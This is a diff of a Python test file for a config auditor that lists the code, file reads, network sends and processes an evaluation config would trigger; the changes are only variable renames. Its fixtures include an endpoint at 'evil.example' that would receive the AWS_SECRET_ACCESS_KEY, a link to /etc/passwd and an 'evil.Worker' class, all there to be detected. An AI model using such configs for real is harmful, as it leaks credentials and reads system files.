@@ -49,8 +49,8 @@ def effects(text: str, folder: Path, **env: str) -> list[Effect]:
     return [*examined(text, folder, **env).effects]
 
 
-def told(found: list[Effect]) -> list[tuple[str, str, str]]:
-    return [(one.act, one.what, one.path) for one in found]
+def told(effects_of_config: list[Effect]) -> list[tuple[str, str, str]]:
+    return [(effect.act, effect.what, effect.path) for effect in effects_of_config]
 
 
 def with_code_everywhere(code: str) -> dict[str, Any]:
@@ -115,11 +115,13 @@ def test_no_code_that_a_config_names_is_imported_and_all_of_it_is_listed(
         [sys.executable, "-c", _WATCHED, str(file)], capture_output=True, text=True, check=False, cwd=tmp_path
     )
     assert json.loads(ended.stderr.splitlines()[-1]) == []
-    found = json.loads(ended.stdout)
-    assert found["valid"] is True, found["problems"]
+    report = json.loads(ended.stdout)
+    assert report["valid"] is True, report["problems"]
     assert ended.returncode == 0
     place = str(tmp_path / code) if code.endswith(".py") else code
-    assert {one["what"] for one in found["would"] if one["act"] == "run"} == {f"{place}:{name}" for name in _NAMES}
+    assert {effect["what"] for effect in report["would"] if effect["act"] == "run"} == {
+        f"{place}:{name}" for name in _NAMES
+    }
 
 
 def test_an_installed_plugin_is_listed_with_its_distribution_and_not_imported(
@@ -129,9 +131,9 @@ def test_an_installed_plugin_is_listed_with_its_distribution_and_not_imported(
         point = EntryPoint("acme", f"no_such_module_of_acme:{kind}", f"gage_eval.{kind}")
         monkeypatch.setitem(registry.ALL[kind]._entry_points, "acme", point)
     text = small(backends=[{"backend_id": "m", "type": "acme"}], metrics=[{"type": "acme", "name": "x"}])
-    found = examined(text, tmp_path)
-    assert found.problems == ()
-    assert told([*found.effects])[:2] == [
+    report = examined(text, tmp_path)
+    assert report.problems == ()
+    assert told([*report.effects])[:2] == [
         ("run", "no_such_module_of_acme:backends", "backends[0].type"),
         ("run", "no_such_module_of_acme:metrics", "metrics[0].implementation"),
     ]
@@ -145,9 +147,9 @@ def test_code_that_was_imported_before_is_not_called_either(
 
     known = registry.Plugin("backends", "earlier", alarm, 1, "", "acme==1")
     monkeypatch.setitem(registry.backends._plugins, "earlier", known)
-    found = examined(small(backends=[{"backend_id": "m", "type": "earlier"}]), tmp_path)
-    assert found.problems == ()
-    assert told([*found.effects])[0] == ("run", "acme==1", "backends[0].type")
+    report = examined(small(backends=[{"backend_id": "m", "type": "earlier"}]), tmp_path)
+    assert report.problems == ()
+    assert told([*report.effects])[0] == ("run", "acme==1", "backends[0].type")
 
 
 def test_the_folder_of_the_config_is_not_put_on_the_path(tmp_path: Path, small: Small) -> None:
@@ -159,7 +161,7 @@ def test_the_folder_of_the_config_is_not_put_on_the_path(tmp_path: Path, small: 
 def test_an_endpoint_is_listed_with_the_variables_that_go_there(tmp_path: Path, small: Small) -> None:
     config = {"base_url": "https://evil.example/${USER}/v1", "model": "m", "api_key": "env:AWS_SECRET_ACCESS_KEY"}
     text = small(backends=[{"backend_id": "m", "type": "openai_http", "config": config}])
-    (sent,) = [one for one in effects(text, tmp_path, USER="me") if one.act == "send"]
+    (sent,) = [effect for effect in effects(text, tmp_path, USER="me") if effect.act == "send"]
     assert (sent.what, sent.path) == ("https://evil.example/me/v1", "backends[0].config.base_url")
     assert sent.note == "questions, media and the value of AWS_SECRET_ACCESS_KEY, USER"
     assert examined(text, tmp_path, USER="me").variables == {"backends[0].config.base_url": ["USER"]}
@@ -173,8 +175,10 @@ def test_data_are_listed_with_their_absolute_places_and_where_links_lead(tmp_pat
         {"dataset_id": "c", "params": {"path": "s3://theirs/rows.jsonl"}},
         {"dataset_id": "d", "hub": "theirs/rows"},
     ]
-    found = [one for one in effects(small(datasets=datasets, backends=[_DUMMY]), tmp_path) if one.act != "send"]
-    assert {(one.act, one.what) for one in found} == {
+    reads = [
+        effect for effect in effects(small(datasets=datasets, backends=[_DUMMY]), tmp_path) if effect.act != "send"
+    ]
+    assert {(effect.act, effect.what) for effect in reads} == {
         ("read", str(tmp_path.parent / "up" / "*.jsonl")),
         ("read", str(Path.home() / "labels")),
         ("read", str(tmp_path / "link.jsonl")),
@@ -183,7 +187,7 @@ def test_data_are_listed_with_their_absolute_places_and_where_links_lead(tmp_pat
         ("fetch", "s3://theirs/rows.jsonl"),
         ("fetch", "dataset theirs/rows"),
     }
-    assert "a link to /etc/passwd" in {one.note for one in found}
+    assert "a link to /etc/passwd" in {effect.note for effect in reads}
 
 
 def test_a_scoring_profiles_code_is_listed(tmp_path: Path, small: Small) -> None:
@@ -191,9 +195,9 @@ def test_a_scoring_profiles_code_is_listed(tmp_path: Path, small: Small) -> None
     profile = {"scorers": {"short_text": {"primary_metric": "score", "metrics": [rule]}}}
     (tmp_path / "p.yaml").write_text(yaml.safe_dump(profile))
     task = {"task_id": "t", "dataset_id": "mine", "answer_type": "short_text", "scoring_profile": "p.yaml"}
-    found = told(effects(small(backends=[_DUMMY], tasks=[task], metrics=None), tmp_path))
+    listed = told(effects(small(backends=[_DUMMY], tasks=[task], metrics=None), tmp_path))
     for what in (("run", "theirs.mod:score"), ("run", "theirs.mod:cut"), ("read", str(tmp_path / "p.yaml"))):
-        assert (*what, "tasks[0].scoring_profile") in found
+        assert (*what, "tasks[0].scoring_profile") in listed
 
 
 _CANARIES = [
@@ -226,24 +230,24 @@ def test_no_field_of_a_backend_that_reaches_out_is_left_out(
         "model_path": "canary/canary",
     }.get(name, "canary")
     text = small(backends=[{"backend_id": "m", "type": backend, "config": {**needed, name: canary}}])
-    found = examined(text, tmp_path)
-    assert found.problems == ()
-    said = [f"{one.what} {one.note}" for one in found.effects if one.path.startswith("backends[0]")]
+    report = examined(text, tmp_path)
+    assert report.problems == ()
+    said = [f"{effect.what} {effect.note}" for effect in report.effects if effect.path.startswith("backends[0]")]
     wanted = "code that comes with a/b" if name == "trust_remote_code" else "canary"
     assert any(wanted in line for line in said), said
 
 
 def test_arguments_that_are_passed_on_to_an_engine_are_listed(tmp_path: Path, small: Small) -> None:
     config = {"model_path": "a/b", "worker_cls": "evil.Worker", "python": "./python"}
-    found = effects(small(backends=[{"backend_id": "m", "type": "vllm_native", "config": config}]), tmp_path)
-    (start,) = [one for one in found if one.act == "start"]
+    listed = effects(small(backends=[{"backend_id": "m", "type": "vllm_native", "config": config}]), tmp_path)
+    (start,) = [effect for effect in listed if effect.act == "start"]
     assert start.what == str(tmp_path / "python")
     assert "worker_cls=evil.Worker" in start.note
 
 
 def test_mistakes_are_found_all_the_same(tmp_path: Path, small: Small) -> None:
-    found = examined(small(metrics=["exact_mach", "theirs.mod:score"], limits={"tokens": 0}), tmp_path)
-    assert [problem.path for problem in found.problems] == ["metrics[0].implementation", "limits.tokens"]
+    report = examined(small(metrics=["exact_mach", "theirs.mod:score"], limits={"tokens": 0}), tmp_path)
+    assert [problem.path for problem in report.problems] == ["metrics[0].implementation", "limits.tokens"]
     with pytest.raises(ConfigError):
         examined("datasets: 1", tmp_path)
 
@@ -303,11 +307,11 @@ def test_filters_of_a_scoring_profile_are_listed_with_parameters_too(tmp_path: P
     preset = {"primary_metric": "exact_match", "metrics": [metric]}
     (tmp_path / "mine.yaml").write_text(yaml.safe_dump({"scorers": {"short_text": preset}}))
     task = {"task_id": "t", "dataset_id": "mine", "answer_type": "short_text", "scoring_profile": "mine.yaml"}
-    found = {one.what for one in effects(small(tasks=[task]), tmp_path) if one.act == "run"}
-    assert found == {"alarm.py:cut", "alarm.py:first", "alarm.py:second", "alarm.py:spread"}
+    code = {effect.what for effect in effects(small(tasks=[task]), tmp_path) if effect.act == "run"}
+    assert code == {"alarm.py:cut", "alarm.py:first", "alarm.py:second", "alarm.py:spread"}
 
 
 def test_files_outside_are_listed_of_a_pinned_origin_too(tmp_path: Path, small: Small) -> None:
     params = {"origin": "gsm8k", "path": "*", "allow_outside": True}
-    found = told(effects(small(datasets=[{"dataset_id": "d", "loader": "jsonl", "params": params}]), tmp_path))
-    assert ("read", "/", "datasets[0].params.allow_outside") in found
+    listed = told(effects(small(datasets=[{"dataset_id": "d", "loader": "jsonl", "params": params}]), tmp_path))
+    assert ("read", "/", "datasets[0].params.allow_outside") in listed
